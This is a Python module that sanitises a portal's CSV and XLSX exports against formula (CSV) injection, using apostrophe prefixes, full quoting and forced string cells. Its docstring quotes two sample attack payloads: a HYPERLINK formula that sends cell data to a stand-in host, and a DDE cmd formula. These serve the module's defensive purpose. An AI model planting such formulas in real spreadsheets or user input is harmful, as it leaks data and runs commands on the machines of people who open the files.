"""CSV and XLSX rows that are safe to open in a spreadsheet, for every export of the portal.

Exports carry what people typed: respondents' answers and "other" texts, the questions and labels
staff wrote. A spreadsheet that opens a cell reading ``=HYPERLINK("https://x?d="&A2,"y")`` or
``=cmd|' /C calc'!A0`` runs it as a formula (CSV injection). So an export writes its rows through
here, never with ``csv.writer`` or ``sheet.append`` of its own:

- ``csv_lines(rows)``: every field quoted, and text that starts with ``=``, ``+``, ``-``, ``@``, a
  tab or a carriage return gets a leading ``'`` (the OWASP guidance), so it reads as text. The
  quotes keep a ``;`` inside a text from starting a new cell where the spreadsheet splits on
  semicolons (a Bulgarian Excel does), with a formula at its head;
- ``xlsx_row(sheet, values)``: text is stored as a string cell, never as the formula openpyxl
  would make of any text starting with ``=`` (or the error value of ``#N/A``).

What is text is decided by type: every ``str`` is text from a person, whoever typed it. Numbers,
dates and other values the export computes stay what they are, so ``-3`` from a number answer is
still a number. Text that is a whole plain number (``-9``, ``+3``, ``2,5``: a choice coded ``-9``
for "don't know", say) is left alone too: a spreadsheet reads it as that number and nothing
else, and a ``'`` would turn the code into text in every analysis.
"""

import csv
import re

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,][0-9]+)?")


def neutralised(text):
    """``text`` as a CSV field no spreadsheet runs: with a leading ``'`` if it could start a
    formula."""
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class _Echo:
    """A file-like object that hands back what the csv writer writes (Django's streaming CSV)."""

    def write(self, value):
        return value


def _as_it_is(cell):
    return cell


def csv_lines(rows, value=_as_it_is):
    """The ``rows`` as CSV lines to stream, UTF-8 with a byte order mark for Excel on the first.
    Text is neutralised; ``value`` turns every other cell (a number, a date) into its field (the
    csv module writes None as an empty field and anything else with ``str``)."""
    writer = csv.writer(_Echo(), quoting=csv.QUOTE_ALL)
    mark = "\ufeff"
    for row in rows:
        yield mark + writer.writerow(
            [neutralised(cell) if isinstance(cell, str) else value(cell) for cell in row]
        )
        mark = ""


def xlsx_row(sheet, values):
    """``values`` ready for ``sheet.append`` on a write-only sheet: every text stored as a string
    (never a formula, never an error value such as ``#N/A``), without the control characters XLSX
    cannot hold; other values as they are."""
    return [_xlsx_text(sheet, value) if isinstance(value, str) else value for value in values]


def _xlsx_text(sheet, text):
    if ILLEGAL_CHARACTERS_RE.search(text):
        text = ILLEGAL_CHARACTERS_RE.sub("", text)
    # openpyxl stores any other text as a string itself. Typing only these cells keeps a sheet of
    # ordinary answers as fast to write as before (a cell object each costs a third more time).
    if not text.startswith("=") and text not in ERROR_CODES:
        return text
    cell = WriteOnlyCell(sheet, text)
    cell.data_type = "s"
    return cell
